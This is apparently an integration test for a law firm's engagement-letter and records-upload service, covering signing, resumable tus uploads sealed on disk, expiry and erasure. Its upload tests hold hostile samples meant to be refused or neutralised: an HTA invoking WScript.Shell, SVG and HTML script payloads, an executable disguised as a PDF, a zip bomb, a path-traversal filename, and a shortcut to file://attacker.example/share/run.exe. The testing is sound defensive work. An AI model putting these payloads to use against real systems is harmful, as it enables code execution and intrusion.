/**
 * The engagement over real HTTP on a real SQLite store, with a real SMTP server catching the mail: staff
 * send it, counsel signs, the signed PDF is mailed and its certificate carries the letter's SHA-256, a
 * record upload is cut off and resumed with the tus protocol, nothing of its plaintext ever reaches the
 * disk, staff download the same bytes, each refusal stores nothing, and leads:erase leaves no row and no file.
 */
import { createHash, randomBytes } from 'node:crypto'
import fs from 'node:fs'
import http from 'node:http'
import path from 'node:path'
import { monitorEventLoopDelay } from 'node:perf_hooks'
import Database from 'better-sqlite3'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { consultationAvailability } from '~/lib/booking/availability.server'
import { RUNTIME_FILE_NAME, RUNTIME_FILE_VERSION } from '~/lib/runtime-file-schema'
import { engagementContent } from '~/lib/engagement/engagement-content.server'
import { eraseCommand } from '../../scripts/leads-erase'
import { runStaffCommand } from '../../scripts/staff'
import { pdfBytes } from '../../tests/support/pdf-bytes'
import { filesHoldingPlaintext } from '../../tests/support/plaintext-scan'
import { pdfText } from '../../tests/e2e/pdf-text'
import { buildApp } from '../app'
import {
  freePort,
  sampleLead,
  startSmtpServer,
  temporaryDir,
  testConfig,
  writeMinimalBuild,
  type ReceivedMail,
} from '../../tests/support/server-fixtures'
import { inboxOf } from '../inbox/inbox-server'
import { csrfTokenFor, hashSecret, newSecret } from '../shared/tokens'
import { MAX_FILE_BYTES } from './engagement-service'
import { RECORDS_MAIL_WINDOW_MS } from './records-mail'
import { xlsxWorkbook, zipBomb } from '../../tests/support/zip-archive'

const ATTORNEY = 'counsel.pell@lawfirm.example.com'
let app: FastifyInstance
let origin: string
let dataDir: string
let smtp: Awaited<ReturnType<typeof startSmtpServer>>
let remove: () => void
let staffCookie: { cookie: string; csrf: string }
let recordsClock = Date.now()

beforeAll(async () => {
  const temp = temporaryDir('engagement-flow-')
  remove = temp.remove
  dataDir = path.join(temp.dir, 'data')
  const buildDir = writeMinimalBuild(temp.dir)
  fs.writeFileSync(
    path.join(temp.dir, RUNTIME_FILE_NAME),
    JSON.stringify({
      version: RUNTIME_FILE_VERSION,
      availability: consultationAvailability(),
      engagement: engagementContent(),
    }),
  )
  const port = await freePort()
  const smtpPort = await freePort()
  smtp = await startSmtpServer(smtpPort)
  origin = `http://127.0.0.1:${String(port)}`
  app = await buildApp(
    testConfig({
      DATA_DIR: dataDir,
      BUILD_DIR: buildDir,
      SITE_URL: origin,
      INBOX_ORIGIN: 'http://localhost:4321',
      SMTP_URL: `smtp://127.0.0.1:${String(smtpPort)}`,
      NOTIFY_TO: 'office@firm.example.com',
    }),
    // The records mail's clock stands still until the records test moves it past the window.
    { collector: { rateLimits: false }, engagement: { recordsMail: { now: () => recordsClock, pollMs: 100 } } },
  )
  await app.listen({ port, host: '127.0.0.1' })
  await runStaffCommand(
    { action: 'add', email: 'ana@firm.example', name: 'Ana Ortiz', role: 'admin' },
    { dataDir, inboxOrigin: 'http://localhost:4321' },
  )
  const { store } = inboxOf(app)
  const person = await store.findStaffByEmail('ana@firm.example')
  const id = newSecret()
  await store.createSession(hashSecret(id), person!.id)
  staffCookie = { cookie: `__Host-inbox-session=${id}`, csrf: csrfTokenFor(id) }
}, 60_000)

afterAll(async () => {
  await app?.close()
  await smtp?.close()
  remove?.()
})

const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString()

async function staffPost(url: string, fields: Record<string, string> = {}) {
  return app.inject({
    method: 'POST',
    url,
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      origin: 'http://localhost:4321',
      cookie: staffCookie.cookie,
    },
    payload: form({ _csrf: staffCookie.csrf, ...fields }),
  })
}

async function postLead(email: string): Promise<string> {
  const posted = await app.inject({
    method: 'POST',
    url: '/f/contact',
    headers: { 'content-type': 'application/json', accept: 'application/json', origin },
    payload: {
      ...sampleLead({ email, firstName: 'Marisol', lastName: 'Pell', organization: 'Pell & Ward LLP' }),
      plaintiffs: 'Marisol Pell',
      defendants: 'Acme Freight, Inc.',
      courtName: 'Court of Common Pleas',
      courtState: 'PA',
      caseNumber: '2026-CV-0142',
      retainedBy: 'plaintiff',
    },
  })
  expect(posted.statusCode, posted.body).toBe(200)
  return (JSON.parse(posted.body) as { id: string }).id
}

/** Clears the request and sends its engagement from the inbox; returns the link counsel receives. */
async function sendEngagement(leadId: string, email: string): Promise<string> {
  expect((await staffPost(`/inbox/requests/${leadId}/status`, { status: 'cleared' })).statusCode).toBe(303)
  // Sending waits for a resolution of each possible conflict (a request retained earlier is in the register).
  for (const hit of await inboxOf(app).conflicts.currentHits(leadId))
    expect(
      (
        await staffPost(`/inbox/requests/${leadId}/conflicts/resolve`, {
          entryId: hit.entryId,
          kind: 'waived',
          detail: 'Disclosed to counsel, who consented',
        })
      ).statusCode,
    ).toBe(303)
  const terms = { expert: 'principal', scope: 'testifying', payer: 'law-firm', forum: 'state:PA' }
  // One screening against the register serves the refusal and the letter's conflicts paragraph.
  const screenings = vi.spyOn(inboxOf(app).conflicts, 'currentHits')
  const unconfirmed = await staffPost(`/inbox/requests/${leadId}/engagement/send`, terms)
  expect(screenings).toHaveBeenCalledTimes(1)
  expect(unconfirmed.statusCode).toBe(422)
  expect(unconfirmed.body).toContain('Tick the box to confirm')
  const before = new Database(path.join(dataDir, 'leads.sqlite'), { readonly: true, fileMustExist: true })
  try {
    expect(before.prepare('SELECT COUNT(*) AS n FROM engagements WHERE lead_id = ?').get(leadId)).toEqual({ n: 0 })
  } finally {
    before.close()
  }
  const sent = await staffPost(`/inbox/requests/${leadId}/engagement/send`, { ...terms, confirm: 'yes' })
  expect(screenings).toHaveBeenCalledTimes(2)
  screenings.mockRestore()
  expect(sent.statusCode, sent.body).toBe(303)
  expect(sent.headers.location).toContain('done=sent')
  let mail: ReceivedMail | undefined
  for (let attempt = 0; attempt < 100 && !mail; attempt += 1) {
    mail = smtp.mails.find(
      (candidate) => candidate.to.includes(email) && candidate.subject.includes('engagement letter for your signature'),
    )
    if (!mail) await new Promise((resolve) => setTimeout(resolve, 100))
  }
  const link = mail?.raw.replace(/=\r?\n/g, '').match(/http:\/\/127\.0\.0\.1:\d+\/engage\/[A-Za-z0-9_-]{43}/)?.[0]
  expect(link).toBeDefined()
  return new URL(link!).pathname
}

function rowCount(table: string): number {
  const db = new Database(path.join(dataDir, 'leads.sqlite'), { readonly: true, fileMustExist: true })
  try {
    return (db.prepare(`SELECT COUNT(*) AS n FROM ${table}`).get() as { n: number }).n
  } finally {
    db.close()
  }
}

const recordsDir = () => path.join(dataDir, 'records')
const recordFiles = () => (fs.existsSync(recordsDir()) ? fs.readdirSync(recordsDir()) : [])

/** One raw HTTP request to the server; `body` may be cut off after `cutAfter` bytes (the connection destroyed). */
function request(
  method: string,
  url: string,
  headers: Record<string, string>,
  body?: Buffer,
  cutAfter?: number,
): Promise<{ status: number; headers: http.IncomingHttpHeaders; text: string } | 'cut'> {
  return new Promise((resolve, reject) => {
    const outgoing = http.request(
      `${origin}${url}`,
      { method, headers: { ...headers, ...(body ? { 'content-length': String(body.length) } : {}) } },
      (response) => {
        const chunks: Buffer[] = []
        response.on('data', (chunk: Buffer) => chunks.push(chunk))
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            headers: response.headers,
            text: Buffer.concat(chunks).toString('utf8'),
          }),
        )
      },
    )
    outgoing.on('error', (error) => (cutAfter === undefined ? reject(error) : resolve('cut')))
    if (!body) return void outgoing.end()
    if (cutAfter === undefined) return void outgoing.end(body)
    outgoing.write(body.subarray(0, cutAfter), () =>
      setTimeout(() => {
        outgoing.destroy()
        resolve('cut')
      }, 300),
    )
  })
}

const TUS = { 'tus-resumable': '1.0.0' }
const metadata = (name: string) => `filename ${Buffer.from(name).toString('base64')}`
const tokenOf = (link: string) => link.split('/').at(-1)!

async function createUpload(token: string, name: string, size: number) {
  return request('POST', '/engage/uploads', {
    ...TUS,
    'engagement-token': token,
    'upload-length': String(size),
    'upload-metadata': metadata(name),
  })
}

async function patch(token: string, location: string, offset: number, body: Buffer, cutAfter?: number) {
  return request(
    'PATCH',
    location,
    {
      ...TUS,
      'engagement-token': token,
      'upload-offset': String(offset),
      'content-type': 'application/offset+octet-stream',
    },
    body,
    cutAfter,
  )
}

const sha256 = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex')

describe('the engagement, from the cleared request to the records', () => {
  let link: string
  let leadId: string

  it('refuses what may not be done before signing: a tampered token, an upload; stores nothing', async () => {
    leadId = await postLead(ATTORNEY)
    const before = await app.inject({ url: `/inbox/requests/${leadId}`, headers: { cookie: staffCookie.cookie } })
    expect(before.body).toContain('Set the status to cleared to send the engagement letter.')
    link = await sendEngagement(leadId, ATTORNEY)

    const tampered = `${link.slice(0, -1)}${link.endsWith('A') ? 'B' : 'A'}`
    const refused = await app.inject({ url: tampered })
    expect(refused.statusCode).toBe(404)
    expect(refused.body).toContain('This link is not valid')
    const upload = await createUpload(tokenOf(link), 'early.pdf', 100)
    expect(upload).not.toBe('cut')
    if (upload === 'cut') return
    expect(upload.status).toBe(403)
    expect(upload.text).toContain('Sign the engagement letter before sending records.')
    expect(rowCount('record_files')).toBe(0)
    expect(recordFiles()).toEqual([])
  })

  it('shows the letter, noindex and no-store under its own policy, with a plain-text copy whose SHA-256 it states', async () => {
    const landing = await app.inject({ url: link })
    expect(landing.statusCode).toBe(200)
    expect(landing.headers['cache-control']).toBe('no-store')
    expect(landing.headers['x-robots-tag']).toBe('noindex, nofollow')
    expect(landing.headers['content-security-policy']).toContain("default-src 'none'")
    expect(landing.body).toContain('Read the engagement letter')
    expect(landing.body).not.toMatch(/googletagmanager|gtag/)
    const letter = await app.inject({ url: `${link}/letter` })
    expect(letter.body).toContain('Marisol Pell v. Acme Freight, Inc.')
    expect(letter.body).toContain('Retainer: $5,000')
    const text = await app.inject({ url: `${link}/letter.txt` })
    expect(letter.body).toContain(`data-letter-sha256="">${sha256(text.rawPayload)}<`)
  })

  it("signs once: the request awaits the firm's signature, both sides get the signed PDF with the name and the hash; a second signature is refused", async () => {
    const text = (await app.inject({ url: `${link}/letter.txt` })).rawPayload
    const fields = {
      name: 'Marisol Pell',
      title: 'Partner',
      firm: 'Pell & Ward LLP',
      email: ATTORNEY,
      textSha256: sha256(text),
    }
    const noConsent = await app.inject({
      method: 'POST',
      url: `${link}/sign`,
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin },
      payload: form(fields),
    })
    expect(noConsent.statusCode).toBe(422)
    expect(noConsent.body).toContain('Tick the box to consent')
    expect(rowCount('engagement_signatures')).toBe(0)
    const crossSite = await app.inject({
      method: 'POST',
      url: `${link}/sign`,
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'https://elsewhere.example' },
      payload: form({ ...fields, consent: 'yes' }),
    })
    expect(crossSite.statusCode).toBe(403)

    const signed = await app.inject({
      method: 'POST',
      url: `${link}/sign`,
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin },
      payload: form({ ...fields, consent: 'yes' }),
    })
    expect(signed.statusCode, signed.body).toBe(303)
    // retained only once the firm countersigns (countersignature-flow.test.ts)
    expect((await inboxOf(app).store.leadState(leadId)).status).toBe('cleared')
    expect((await app.inject({ url: link })).body).toContain('Awaiting the firm&#x27;s signature.')
    const pdf = await app.inject({ url: `${link}/signed.pdf` })
    expect(pdf.headers['content-type']).toBe('application/pdf')
    const pdfWords = await pdfText(new Uint8Array(pdf.rawPayload))
    expect(pdfWords).toContain('Marisol Pell')
    expect(pdfWords.replace(/\s/g, '')).toContain(sha256(text))
    const mails = await smtp.waitForMails(3)
    const withPdf = mails.filter((mail) => /filename="?signed-engagement-letter\.pdf/.test(mail.raw))
    expect(
      withPdf
        .map((mail) => mail.to)
        .flat()
        .sort(),
    ).toEqual([ATTORNEY, 'office@firm.example.com'].sort())

    const again = await app.inject({
      method: 'POST',
      url: `${link}/sign`,
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin },
      payload: form({ ...fields, name: 'Someone Else', consent: 'yes' }),
    })
    expect(again.statusCode).toBe(409)
    expect(again.body).toContain('a second signature is not accepted')
    expect(rowCount('engagement_signatures')).toBe(1)
    const db = new Database(path.join(dataDir, 'leads.sqlite'), { fileMustExist: true })
    try {
      expect(() => db.prepare("UPDATE engagement_signatures SET signer_name = 'Changed'").run()).toThrow(
        /cannot be changed/,
      )
    } finally {
      db.close()
    }
  })

  it('takes a record cut off halfway and resumed, sealed on disk throughout; staff download the same bytes', async () => {
    const plaintext = pdfBytes(6 * 1024 * 1024)
    const created = await createUpload(tokenOf(link), 'deposition exhibits.pdf', plaintext.length)
    if (created === 'cut') throw new Error('creation cut')
    expect(created.status, created.text).toBe(201)
    const location = created.headers.location!
    expect(await patch(tokenOf(link), location, 0, plaintext, plaintext.length / 2)).toBe('cut')
    // The server seals what arrived before the cut; it says where to resume.
    let offset = 0
    for (let attempt = 0; attempt < 50 && offset === 0; attempt += 1) {
      const head = await request('HEAD', location, { ...TUS, 'engagement-token': tokenOf(link) })
      if (head !== 'cut') offset = Number(head.headers['upload-offset'])
      if (offset === 0) await new Promise((resolve) => setTimeout(resolve, 100))
    }
    expect(offset).toBeGreaterThan(0.4 * plaintext.length)
    expect(filesHoldingPlaintext(plaintext, [dataDir])).toEqual([])
    const rest = await patch(tokenOf(link), location, offset, plaintext.subarray(offset))
    if (rest === 'cut') throw new Error('resume cut')
    expect(rest.status, rest.text).toBe(204)
    expect(plaintext.length - offset).toBeLessThan(0.6 * plaintext.length)
    expect(filesHoldingPlaintext(plaintext, [dataDir])).toEqual([])

    const page = await app.inject({ url: link })
    expect(page.body).toContain('deposition exhibits.pdf')
    expect(page.body).toContain(sha256(plaintext))
    const receipt = await app.inject({ url: `${link}/receipt.txt` })
    expect(receipt.body).toContain(`${sha256(plaintext)}  ${String(plaintext.length)} bytes`)
    const fileId = location.split('/').at(-1)!
    const download = await app.inject({
      url: `/inbox/requests/${leadId}/engagement/files/${fileId}`,
      headers: { cookie: staffCookie.cookie },
    })
    expect(download.statusCode).toBe(200)
    expect(sha256(download.rawPayload)).toBe(sha256(plaintext))
    const audit = await inboxOf(app).store.listAudit(leadId)
    expect(audit.map((entry) => entry.action)).toContain('engagement.file_downloaded')
  })

  it('refuses an executable named .pdf and a file over the limit, storing nothing; keeps "../../x" as display text under a random name', async () => {
    const rowsBefore = rowCount('record_files')
    const filesBefore = recordFiles().length
    const exe = Buffer.concat([Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00]), randomBytes(4096)])
    const created = await createUpload(tokenOf(link), 'report.pdf', exe.length)
    if (created === 'cut') throw new Error('cut')
    const sent = await patch(tokenOf(link), created.headers.location!, 0, exe)
    if (sent === 'cut') throw new Error('cut')
    expect(sent.status).toBe(415)
    expect(sent.text).toContain('This file type is not accepted')
    const tooBig = await createUpload(tokenOf(link), 'huge.zip', MAX_FILE_BYTES + 1)
    if (tooBig === 'cut') throw new Error('cut')
    expect(tooBig.status).toBe(413)
    expect(rowCount('record_files')).toBe(rowsBefore)
    expect(recordFiles().length).toBe(filesBefore)

    const csv = Buffer.from('date,amount\n2026-01-02,100.00\n')
    const traversal = await createUpload(tokenOf(link), '../../x', csv.length)
    if (traversal === 'cut') throw new Error('cut')
    const done = await patch(tokenOf(link), traversal.headers.location!, 0, csv)
    if (done === 'cut') throw new Error('cut')
    expect(done.status).toBe(204)
    expect(recordFiles().every((name) => /^[0-9a-f]{32}\.rec$/.test(name))).toBe(true)
    expect(fs.existsSync(path.join(dataDir, '..', 'x'))).toBe(false)
    const page = await app.inject({ url: link })
    expect(page.body).toContain('<td class="engage-filename">../../x.csv</td>')
  })

  /** Creates an upload and sends all of it in one PATCH; the final answer, and the upload's id. */
  async function uploadWhole(name: string, bytes: Buffer) {
    const created = await createUpload(tokenOf(link), name, bytes.length)
    if (created === 'cut') throw new Error('creation cut')
    expect(created.status, created.text).toBe(201)
    const location = created.headers.location!
    const sent = await patch(tokenOf(link), location, 0, bytes)
    if (sent === 'cut') throw new Error('upload cut')
    return { ...sent, fileId: location.split('/').at(-1)! }
  }

  const staffDownload = (fileId: string) =>
    app.inject({
      url: `/inbox/requests/${leadId}/engagement/files/${fileId}`,
      headers: { cookie: staffCookie.cookie },
    })

  it('refuses a zip bomb declared as DOCX with 415 without stalling other requests; takes a real 20 MB XLSX', async () => {
    const rowsBefore = rowCount('record_files')
    const bomb = await zipBomb()
    const delay = monitorEventLoopDelay({ resolution: 10 })
    delay.enable()
    const refused = await uploadWhole('brief.docx', bomb)
    delay.disable()
    expect(refused.status).toBe(415)
    expect(refused.text).toContain('declares far more data than it holds')
    // The longest the event loop stood still while the bomb was checked (12.5 s before the fix).
    expect(delay.max / 1e6).toBeLessThan(1000)
    expect(rowCount('record_files')).toBe(rowsBefore)

    const workbook = xlsxWorkbook(66_000)
    expect(workbook.length).toBeGreaterThan(20 * 1024 * 1024)
    const accepted = await uploadWhole('damages model.xlsx', workbook)
    expect(accepted.status, accepted.text).toBe(204)
    const download = await staffDownload(accepted.fileId)
    expect(download.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    expect(sha256(download.rawPayload)).toBe(sha256(workbook))
  }, 120_000)

  it('refuses markup and a fake PDF; keeps other text as plain text named .txt and CSV as CSV, sent with their own type', async () => {
    const refusals: Array<[string, string]> = [
      [
        'payload.hta',
        '<HTA:APPLICATION ID="x" WINDOWSTATE="minimize">\n<script>new ActiveXObject("WScript.Shell")</script>\n',
      ],
      ['report.html', '<!DOCTYPE html>\n<html><body><p>Quarterly report</p></body></html>\n'],
      ['chart.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect/></svg>\n'],
      ['invoice.html', '%PDF-1.4\n<html><script>alert(1)</script></html>\n'],
    ]
    const rowsBefore = rowCount('record_files')
    for (const [name, text] of refusals) {
      const answer = await uploadWhole(name, Buffer.from(text))
      expect(answer.status, name).toBe(415)
    }
    expect(rowCount('record_files')).toBe(rowsBefore)

    const kept: Array<[string, string, string, string]> = [
      ['run.bat', '@echo off\r\nstart calc.exe\r\n', 'run.bat.txt', 'text/plain; charset=utf-8'],
      [
        'Shortcut.url',
        '[InternetShortcut]\r\nURL=file://attacker.example/share/run.exe\r\n',
        'Shortcut.url.txt',
        'text/plain; charset=utf-8',
      ],
      [
        'Pell deposition.txt',
        'DEPOSITION OF MARISOL PELL, taken May 2, 2026\n\nQ. Please state your name.\nA. Marisol Pell.\nQ. Where do you work, and since when?\nA. At Pell & Ward, since 2011.\n',
        'Pell deposition.txt',
        'text/plain; charset=utf-8',
      ],
      ['payroll', 'date,employee,amount\n2026-01-02,"Pell, M.",100.00\n', 'payroll.csv', 'text/csv; charset=utf-8'],
    ]
    for (const [name, text, storedName, mediaType] of kept) {
      const answer = await uploadWhole(name, Buffer.from(text))
      expect(answer.status, `${name}: ${answer.text}`).toBe(204)
      const download = await staffDownload(answer.fileId)
      expect(download.headers['content-type'], name).toBe(mediaType)
      expect(download.headers['x-content-type-options']).toBe('nosniff')
      expect(download.headers['content-disposition']).toContain(`filename="${storedName}"`)
      expect(download.body).toBe(text)
    }
    const page = await app.inject({ url: link })
    expect(page.body).toContain('<td class="engage-filename">run.bat.txt</td><td data-label="Type">Plain text</td>')
  })

  it('refuses an expired link with a plain page and stores nothing', async () => {
    const email = 'second.counsel@lawfirm.example.com'
    const otherLead = await postLead(email)
    const otherLink = await sendEngagement(otherLead, email)
    const db = new Database(path.join(dataDir, 'leads.sqlite'), { fileMustExist: true })
    try {
      db.prepare('UPDATE engagements SET sign_by = ? WHERE lead_id = ?').run(Date.now() - 1000, otherLead)
    } finally {
      db.close()
    }
    const expired = await app.inject({ url: `${otherLink}/letter` })
    expect(expired.statusCode).toBe(410)
    expect(expired.body).toContain('This link has expired')
    const sign = await app.inject({
      method: 'POST',
      url: `${otherLink}/sign`,
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin },
      payload: form({ name: 'Late Signer', title: 'Partner', firm: 'Firm', email, consent: 'yes', textSha256: 'x' }),
    })
    expect(sign.statusCode).toBe(410)
    expect(rowCount('engagement_signatures')).toBe(1)
  })

  it('mails staff at the first record, listing it and its size, and the records after it in one more mail when its 15-minute window ends', async () => {
    const records = () => smtp.mails.filter((mail) => mail.subject.startsWith('Records received: Marisol Pell'))
    const textOf = (index: number) => records()[index]!.raw.replace(/=\r?\n/g, '')
    await new Promise((resolve) => setTimeout(resolve, 300))
    expect(records()).toHaveLength(1)
    expect(records()[0]!.to).toEqual(['office@firm.example.com'])
    expect(textOf(0)).toContain('deposition exhibits.pdf (6 MB)')
    expect(textOf(0)).toContain('/inbox/requests/')
    expect(textOf(0)).not.toContain('damages model.xlsx')
    recordsClock += RECORDS_MAIL_WINDOW_MS
    for (let attempt = 0; attempt < 100 && records().length < 2; attempt += 1)
      await new Promise((resolve) => setTimeout(resolve, 100))
    await new Promise((resolve) => setTimeout(resolve, 300))
    expect(records()).toHaveLength(2)
    expect(textOf(1)).toContain('damages model.xlsx')
    expect(textOf(1)).not.toContain('deposition exhibits.pdf')
  })

  it("leads:erase of the attorney's email leaves no row and no file of the engagement", async () => {
    expect(recordFiles().length).toBeGreaterThan(0)
    const lines: string[] = []
    expect(await eraseCommand(['--email', ATTORNEY], { dataDir }, (line) => lines.push(line))).toBe(0)
    for (const table of ['engagements', 'engagement_signatures', 'record_files', 'record_chunks']) {
      const db = new Database(path.join(dataDir, 'leads.sqlite'), { readonly: true, fileMustExist: true })
      try {
        expect(
          (db.prepare(`SELECT COUNT(*) AS n FROM ${table} WHERE lead_id = ?`).get(leadId) as { n: number }).n,
          table,
        ).toBe(0)
      } finally {
        db.close()
      }
    }
    expect(recordFiles()).toEqual([])
    expect((await app.inject({ url: link })).statusCode).toBe(404)
  })
})
